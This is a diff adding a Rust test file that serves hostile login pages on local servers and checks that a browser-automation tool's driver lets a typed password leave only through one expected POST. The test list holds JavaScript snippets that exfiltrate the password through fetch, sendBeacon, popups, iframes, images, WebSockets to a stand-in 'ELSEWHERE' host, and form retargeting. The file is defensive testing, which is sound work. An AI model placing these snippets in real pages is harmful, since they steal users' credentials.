@@ -1,0 +1,174 @@
+//! Login pages that mean harm: whatever they try with what was typed, one submission leaves at most, to the plan's own
+//! address, and nothing goes anywhere else.
+#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::sync::{Arc, Mutex};
+
+use firstbell::drivers::{ChromeConfig, DriverConfig, DriverName};
+use firstbell::http::HyperHttp;
+use firstbell::ports::{Driver, Engines};
+use firstbell_core::broker::{App, Broker};
+use firstbell_core::brokers::kite::Kite;
+use firstbell_core::budget::Cause;
+use firstbell_core::origin::Origin;
+use firstbell_core::plan::{PageKind, Step};
+use firstbell_core::secret::Secret;
+use firstbell_core::sight::{Action, Fill, Seen};
+
+const PASSWORD: &str = "typedSecret7";
+
+/// What arrived at a server: request line and body of each request.
+type Arrived = Arc<Mutex<Vec<String>>>;
+
+/// A server that gives this page to every GET and a refusal to everything else, and remembers all of it.
+fn serve(host: &str, page: &str) -> (String, Arrived) {
+    let listener = TcpListener::bind((host, 0)).unwrap();
+    let origin = format!("http://{}", listener.local_addr().unwrap());
+    let (arrived, page) = (Arrived::default(), page.to_owned());
+    let remembers = Arc::clone(&arrived);
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let (page, remembers) = (page.clone(), Arc::clone(&remembers));
+            std::thread::spawn(move || answer(stream.unwrap(), &page, &remembers));
+        }
+    });
+    (origin, arrived)
+}
+
+fn answer(mut stream: TcpStream, page: &str, remembers: &Arrived) {
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    let (mut first, mut length) = (String::new(), 0);
+    let _ = reader.read_line(&mut first);
+    loop {
+        let mut line = String::new();
+        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+            break;
+        }
+        if let Some(value) = line.to_lowercase().strip_prefix("content-length:") {
+            length = value.trim().parse().unwrap();
+        }
+    }
+    let mut body = vec![0; length];
+    let _ = reader.read_exact(&mut body);
+    remembers.lock().unwrap().push(format!("{}{}", first, String::from_utf8_lossy(&body)));
+    let (status, media, text) = match first.starts_with("GET /") {
+        true => ("200 OK", "text/html; charset=utf-8", page),
+        false => ("503 Busy", "text/plain", "busy"),
+    };
+    let _ = write!(
+        stream,
+        "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
+        text.len()
+    );
+}
+
+fn page(attack: &str) -> String {
+    format!(
+        "<!doctype html><div id=app><form id=f><input id=userid type=text placeholder='User ID'>\
+         <input id=password type=password><button>Login</button></form></div><script>\
+         const pw = () => document.getElementById('password').value;\
+         document.getElementById('f').addEventListener('submit', (e) => {{ e.preventDefault(); {attack} }});\
+         </script>"
+    )
+}
+
+/// Types into the hostile page, and watches until it is over or nothing happens any more.
+async fn walk(site: &str) -> Seen {
+    let site = Origin::parse(site).unwrap();
+    let kite = Kite::rehearsal(site.clone(), site.clone()).unwrap();
+    let app = App {
+        api_key: "key".into(),
+        user_id: "AB1234".into(),
+        redirect: "https://example.org/".parse().unwrap(),
+    };
+    let (config, http) = (
+        DriverConfig { driver: DriverName::Chrome, chrome: ChromeConfig::default() },
+        HyperHttp::unconnected(),
+    );
+    let mut driver = config.open(kite.plan(), &app, &http).await.unwrap();
+    let mut action = Action::Open { url: kite.entry(&app), wait_ms: 20_000 };
+    loop {
+        match driver.perform(action).await.unwrap() {
+            Seen::Page(sight) => {
+                if kite.plan().recognise(&sight.counts).is_some_and(|p| p.kind == PageKind::Credentials) {
+                    break;
+                }
+            }
+            other => panic!("{other:?}"),
+        }
+        action = Action::Look { wait_ms: 20_000 };
+    }
+    let seen = after_the_fill(driver.as_mut(), &kite).await;
+    driver.close().await.unwrap();
+    seen
+}
+
+async fn after_the_fill(driver: &mut dyn Driver, kite: &Kite) -> Seen {
+    let entry =
+        kite.plan().pages.iter().filter_map(|p| p.entry.as_ref()).find(|e| e.step == Step::Credentials);
+    let entry = entry.unwrap();
+    let texts = ["AB1234", PASSWORD].map(|text| Secret::new(text.into()));
+    let fields = entry.fields.iter().zip(texts).map(|(f, text)| (f.role, f.mark, text)).collect();
+    let (step, cause, submit) = (entry.step, Cause::Password, entry.submit);
+    let mut action = Action::Fill(Fill { step, fields, submit, cause, time_step: None, wait_ms: 2_000 });
+    loop {
+        match driver.perform(action).await.unwrap() {
+            Seen::Page(_) => action = Action::Look { wait_ms: 2_000 },
+            other => return other,
+        }
+    }
+}
+
+/// Runs one attack; gives what the driver saw in the end, and every request that carried the password.
+async fn attack(script: &str) -> (Seen, Vec<String>) {
+    let (elsewhere, foreign) = serve("127.0.0.2", "<p>elsewhere</p>");
+    let (site, own) = serve("127.0.0.1", &page(&script.replace("ELSEWHERE", &elsewhere)));
+    let seen = walk(&site).await;
+    let all = [own.lock().unwrap().clone(), foreign.lock().unwrap().clone()].concat();
+    let foreign = foreign.lock().unwrap().clone();
+    assert!(foreign.is_empty(), "{script}: another origin was reached: {foreign:?}");
+    (seen, all.into_iter().filter(|request| request.contains(PASSWORD)).collect())
+}
+
+#[tokio::test]
+async fn nothing_leaves_but_by_the_plan_s_own_request() {
+    for script in [
+        "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
+        "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
+        "for (let i = 0; i < 5; i++) fetch('/api/log' + i, {method: 'POST', body: pw()}).catch(() => {});",
+        "fetch('/quiet?' + pw());",
+        "fetch('/api/login?' + pw());",
+        "navigator.sendBeacon('/beacon', pw());",
+        "window.open('/popup?' + pw());",
+        "const f = document.getElementById('f'); f.method = 'post'; f.action = '/api/login'; f.target = '_blank';\
+         document.getElementById('password').name = 'p'; f.submit();",
+        "const f = document.getElementById('f'); document.getElementById('password').name = 'p'; f.submit();",
+        "const f = document.createElement('iframe'); f.src = '/frame?' + pw(); document.body.append(f);",
+        "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
+        "location = 'ELSEWHERE/?' + pw();",
+    ] {
+        let (seen, carried) = attack(script).await;
+        assert!(carried.is_empty(), "{script}\nlet {carried:?} leave");
+        let told = match &seen {
+            Seen::Untyped { .. } | Seen::Away(_) => true,
+            Seen::Lost { left, .. } => !left,
+            _ => false,
+        };
+        assert!(told, "{script}\nended with {seen:?}");
+    }
+}
+
+#[tokio::test]
+async fn of_many_submissions_one_leaves() {
+    let many =
+        "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'POST', body: pw()}).catch(() => {});";
+    let again = "const go = () => fetch('/api/login', {method: 'POST', body: pw()}).then(go, go); go();";
+    for script in [many, again] {
+        let (seen, carried) = attack(script).await;
+        assert_eq!(carried.len(), 1, "{script}\nlet {carried:?} leave");
+        assert!(carried[0].starts_with("POST /api/login "), "{carried:?}");
+        assert!(matches!(seen, Seen::Unchanged), "{seen:?}");
+    }
+}
